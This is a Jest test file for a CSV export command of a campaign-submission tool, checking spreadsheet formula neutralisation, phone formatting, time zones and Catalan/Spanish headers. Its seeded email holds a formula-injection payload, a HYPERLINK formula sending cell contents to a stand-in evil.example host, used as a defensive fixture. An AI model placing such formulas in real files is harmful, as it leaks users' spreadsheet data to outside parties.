// The CSV opens safely in a spreadsheet: read back here with a real CSV parser (csv-parse), as
// LibreOffice or Excel would split it, formulas neutralised, phones kept as text, words in the
// language asked for, times in the campaign's zone.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { makeCampaign, type Campaign } from '../helpers/campaign.js';

let c: Campaign;

beforeAll(() => {
  c = makeCampaign('xmess-csv-');
  const body = ['Bon dia,', '', 'Títol: =HYPERLINK("http://evil.example/?x="&A1;"Clica")', 'Organitzacions promotores: Ajuntament de Vila de Prova, +Cooperativa Suma',
    "Breu explicació: @SUM(1+1) és com comença aquesta descripció d'un rebost compartit durant el confinament per la Covid-19.", 'Nom: Berta Solà Riu',
    'Telèfon: +34 935 55 61 14', '', 'Salutacions,'].join('\n');
  expect(c.ingest([{ from: 'Berta <bsola@viladeprova.cat>', messageId: '<csv@viladeprova.cat>', received: 'Tue, 21 Apr 2020 09:10:15 +0200', body }], '--no-follow-ups').code).toBe(0);
});
afterAll(() => c.cleanup());

const rows = (...args: string[]): Record<string, string>[] => {
  const r = c.run('export', '--format', 'csv', ...args);
  expect(r.code).toBe(0);
  const delimiter = args.includes('--delimiter') ? args[args.indexOf('--delimiter') + 1]! : ',';
  return parse(r.stdout, { bom: true, columns: true, delimiter }) as Record<string, string>[];
};

describe('xmess export --format csv', () => {
  it('neutralises cells a spreadsheet would run as formulas with a leading apostrophe, and keeps phones as text', () => {
    const [p] = rows();
    expect(p!.title!.startsWith("'=HYPERLINK(")).toBe(true);
    expect(p!.summary!.startsWith("'@SUM(1+1)")).toBe(true);
    expect(p!['contact.phone']).toBe("'+34935556114");
    // Every cell: none begins with a formula character once read back.
    for (const cell of Object.values(p!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('gives times in the campaign time zone', () => {
    expect(rows()[0]!.receivedAt).toBe('2020-04-21 09:10:15');
  });

  it('--lang ca gives Catalan headers, theme labels, statuses and yes/no; --delimiter ; splits on semicolons', () => {
    const [p] = rows('--lang', 'ca', '--delimiter', ';');
    expect(p!['Títol']!.startsWith("'=HYPERLINK(")).toBe(true);
    expect(p!['Fora de termini']).toBe('no');
    expect(p!['Membre de la XMESS']).toBe('sí');
    expect(p!['Estat']).toBe('rebuda');
    expect(p!['Àmbits']).toContain('Resposta a la Covid-19');
    expect(p!['Rebuda (Europe/Madrid)']).toBe('2020-04-21 09:10:15');
  });

  it('--lang es gives Spanish headers and words', () => {
    const [p] = rows('--lang', 'es');
    expect(p!['Fuera de plazo']).toBe('no');
    expect(p!['Estado']).toBe('recibida');
    expect(p!['Teléfono de contacto']).toBe("'+34935556114");
  });

  it('refuses a delimiter that is not one character', () => {
    expect(c.run('export', '--format', 'csv', '--delimiter', ';;').code).toBe(2);
  });
});
